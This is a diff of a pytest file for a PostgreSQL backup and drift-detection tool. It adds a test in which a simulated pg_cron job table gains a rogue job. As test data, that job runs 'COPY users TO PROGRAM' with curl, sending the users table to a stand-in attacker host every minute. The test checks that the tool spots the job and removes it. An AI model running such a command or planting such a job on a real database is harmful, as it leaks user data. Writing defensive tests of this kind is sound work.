@@ -73,20 +73,20 @@ def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
 def known(server: Server) -> Surroundings:
     """What was recorded before anybody came."""
     with server.connect(LIVE, autocommit=True) as session:
-        return Surroundings(LIVE, recorded(session))
+        return Surroundings(LIVE, recorded(server, session))
 
 
-def recorded(session: Connection) -> Recorded:
+def recorded(server: Server, session: Connection) -> Recorded:
     """As a backup's manifest has it."""
-    return Recorded(
-        state.roles(session), state.acl(session), state.settings(session), cluster.read(session, LIVE) or {}
-    )
+    around = cluster.read(server, session, LIVE)
+    assert around is not None
+    return Recorded(state.roles(session), state.acl(session), state.settings(session), around)
 
 
 def found(server: Server, known: Surroundings) -> list[str]:
     """Everything that is not as recorded."""
     with server.connect(LIVE, autocommit=True) as session:
-        return [*known.strangers(session), *known.changed(session)]
+        return [*known.strangers(session), *known.changed(server, session)]
 
 
 @pytest.mark.exhaustive  # all of it at once is always put right
@@ -134,9 +134,28 @@ def test_a_rule_that_lets_anybody_in_is_named(server: Server, known: Surrounding
     assert found(server, known) == []
 
 
+def test_a_job_by_the_clock_goes(server: Server, known: Surroundings) -> None:
+    """pg_cron keeps its jobs elsewhere; this table stands for its own."""
+    insert = "INSERT INTO cron.job (schedule, command, database, username) VALUES (%s, %s, 'spheroseg', 'postgres')"
+    with server.connect("postgres", autocommit=True) as admin, server.connect(LIVE, autocommit=True) as session:
+        session.execute("SET cron.database_name = 'postgres'")
+        admin.execute("CREATE SCHEMA cron")
+        admin.execute("CREATE TABLE cron.job (schedule text, command text, database text, username text)")
+        admin.execute(insert, ("0 3 * * *", "VACUUM"))
+        before = Surroundings(LIVE, recorded(server, session))
+        admin.execute(insert, ("* * * * *", "COPY users TO PROGRAM 'curl -d @- https://evil.invalid'"))
+        assert len(before.changed(server, session)) == 1
+        assert "job * * * * * postgres spheroseg" in before.changed(server, session)[0]
+        before._server(server, session)  # noqa: SLF001 -- in the session that knows of pg_cron
+        assert before.changed(server, session) == []
+        assert admin.execute("SELECT command FROM cron.job").fetchall() == [("VACUUM",)]
+        admin.execute("DROP SCHEMA cron CASCADE")
+    assert found(server, known) == []
+
+
 def test_whoever_may_not_read_the_rules_is_told_of_none(server: Server) -> None:
     """A deployment whose role is no superuser still has its backups."""
     with server.connect(LIVE, autocommit=True) as session:
         session.execute("SET ROLE reporting")
-        assert cluster.read(session, LIVE) is None
-        assert Surroundings(LIVE, Recorded({}, [], [], None))._of_server(session) == {}  # noqa: SLF001 -- the rule itself
+        assert cluster.read(server, session, LIVE) is None
+        assert Surroundings(LIVE, Recorded({}, [], [], None))._of_server(server, session) == {}  # noqa: SLF001 -- the rule itself
